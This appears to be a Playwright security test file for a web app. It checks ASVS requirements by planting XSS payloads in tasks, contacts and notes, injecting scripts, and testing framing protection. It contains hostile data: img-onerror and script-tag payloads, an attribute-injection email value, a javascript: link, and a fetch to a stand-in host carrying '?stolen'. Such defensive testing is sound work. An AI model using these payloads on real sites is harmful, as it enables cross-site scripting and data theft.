import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { signInButton } from './support/frame.ts';
import { addNote } from './support/notes.ts';
import { addTasks } from './support/tasks.ts';

const HOSTILE = `<img src=x onerror="pwned=1"><script>pwned=2</script>'"--`;

/** Collects what the page's policy refuses, on every page that is opened from now on. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  const refused: string[] = [];
  await page.exposeFunction('tellRefused', (what: string) => refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      Reflect.apply(Reflect.get(globalThis, 'tellRefused') as (what: string) => void, undefined, [
        `${violatedDirective} ${blockedURI}`,
      ]);
    });
  });
  return async () => refused;
}

const isPwned = (page: Page) => page.evaluate(() => 'pwned' in globalThis);

test('ASVS V1.3.1, V3.2.2: what looks like HTML is text on every screen, and the policy has nothing to refuse', async ({
  alice,
}) => {
  await addTasks(alice, { title: HOSTILE, description: HOSTILE, due_date: '2020-01-01' });
  const contact = {
    first_name: HOSTILE,
    company: HOSTILE,
    email_address: `x@y.z"onclick="pwned=3`,
  };
  await alice.client.from('contacts').insert(contact).throwOnError();
  const link = '[click](javascript:pwned=4)';
  const { uid } = await addNote(alice, HOSTILE, `${HOSTILE}\n${link}\n**${HOSTILE}**`);
  const page = await alice.open('/settings');
  const refused = await watchPolicy(page);
  for (const path of [
    '/',
    '/contacts',
    '/notes',
    `/notes?note=${uid}`,
    '/settings',
    '/drag-test',
  ]) {
    await page.goto(path);
    if (path !== '/settings') await expect(page.getByText(HOSTILE).first()).toBeVisible();
    expect(await isPwned(page), path).toBe(false);
    await expect(page.locator('img[src="x"], a[href^="javascript:" i]')).toHaveCount(0);
  }
  expect(await refused()).toEqual([]);
});

test('ASVS V3.4: the policy stops a script that got in, what it would send, and a frame around the app', async ({
  visitor: { page },
}) => {
  const refused = await watchPolicy(page);
  await page.goto('/login');
  await expect(signInButton(page)).toBeVisible();
  await page.evaluate((html) => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.pwned = 5';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', html);
  }, HOSTILE);
  const sent = await page.evaluate(() =>
    fetch('https://elsewhere.example/?stolen').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(sent).toBe('refused');
  await expect
    .poll(async () => new Set((await refused()).map((what) => what.split(' ')[0])))
    .toEqual(new Set(['connect-src', 'script-src-attr', 'script-src-elem']));
  expect(await isPwned(page)).toBe(false);

  const address = new URL('/login', page.url()).href;
  await page.route('http://framing.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}"></iframe>` }),
  );
  // Without the two headers the frame would show the form, so it is they that keep it empty.
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    delete headers['content-security-policy'];
    delete headers['x-frame-options'];
    await route.fulfill({ response, headers });
  });
  await page.goto('http://framing.example/');
  await expect(page.frameLocator('iframe').getByText('Username')).toBeVisible();
  await page.unroute(address);
  await page.goto('http://framing.example/');
  await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
});
